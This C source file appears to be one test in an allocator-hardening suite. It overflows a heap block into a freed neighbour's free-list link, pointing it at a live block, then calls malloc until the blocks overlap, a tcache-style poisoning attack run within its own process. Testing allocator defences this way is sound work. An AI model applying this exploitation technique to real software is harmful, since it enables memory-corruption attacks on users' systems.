/* Attack 6, a heap overflow into the next free block's link: of 512 live
 * 64-byte blocks, two neighbours by address (pred, then victim right after
 * it: hardened builds hand freshly carved blocks out in random order, so
 * the pair is searched by address, not by allocation order) are picked;
 * another block, then victim are freed, then pred is overflowed: its 64 bytes, the bytes between
 * the two blocks as they are (an allocator's chunk header: an attacker
 * rewrites it unchanged), and 8 bytes more, the plain address of another
 * live block, over the freed victim's word 0.  Then malloc(64) until
 * overlap or abort. */
#include "attack.h"

#define N 512
static uintptr_t blocks[N], sorted[N];

static int by_addr(const void *x, const void *y)
{
    uintptr_t a = *(const uintptr_t *)x, b = *(const uintptr_t *)y;
    return a < b ? -1 : a > b;
}

int main(void)
{
    atk_start("overflow_link", "64-byte pred overflows into the freed neighbour's word 0 (plain address of a live block)");
    for (int i = 0; i < N; i++)
        sorted[i] = blocks[i] = addr(malloc(64));
    qsort(sorted, N, sizeof sorted[0], by_addr);
    uintptr_t stride = UINTPTR_MAX;
    for (int i = 1; i < N; i++)
        if (sorted[i] - sorted[i - 1] < stride)
            stride = sorted[i] - sorted[i - 1];
    /* a pair in the middle of the run, away from the first blocks */
    uintptr_t pred = 0, victim = 0;
    for (int i = N / 2; i < N && !victim; i++)
        if (sorted[i] - sorted[i - 1] == stride) {
            pred = sorted[i - 1];
            victim = sorted[i];
        }
    if (!victim || stride < 64 || stride > 64 + 64) {
        say("no neighbouring pair (smallest gap %lu)\n", (unsigned long)stride);
        return ATK_SETUP;
    }
    uintptr_t target = 0, other = 0;    /* two more blocks, neither pred nor victim */
    for (int i = 0; i < N && !other; i++)
        if (blocks[i] != pred && blocks[i] != victim) {
            if (!target)
                target = blocks[i];
            else
                other = blocks[i];
        }
    memset((void *)target, 0x5a, 64);
    /* another block first, so that the list holds more than the victim (an
     * allocator that counts its list, as glibc's tcache, would otherwise
     * never follow the victim's link) */
    free((void *)other);
    free((void *)victim);
    say("pred=%#lx victim=%#lx (stride %lu, freed) target=%#lx (live); victim's word 0 after free: %#lx\n",
        (unsigned long)pred, (unsigned long)victim, (unsigned long)stride, (unsigned long)target,
        (unsigned long)word(victim, 0));
    /* the overflow: pred's 64 bytes, the gap unchanged, then victim word 0 */
    uintptr_t gap[8];
    size_t ngap = (stride - 64) / sizeof(uintptr_t);
    for (size_t i = 0; i < ngap; i++)
        gap[i] = word(pred + 64, (int)i);
    for (int i = 0; i < 8; i++)
        set_word(pred, i, 0x4141414141414141u);
    for (size_t i = 0; i < ngap; i++)
        set_word(pred + 64, (int)i, gap[i]);
    set_word(victim, 0, target);
    say("wrote %lu bytes from pred\n", (unsigned long)(stride + 8));
    return malloc_until_overlap(64, &target, 1, 64, ATK_TRIES);
}
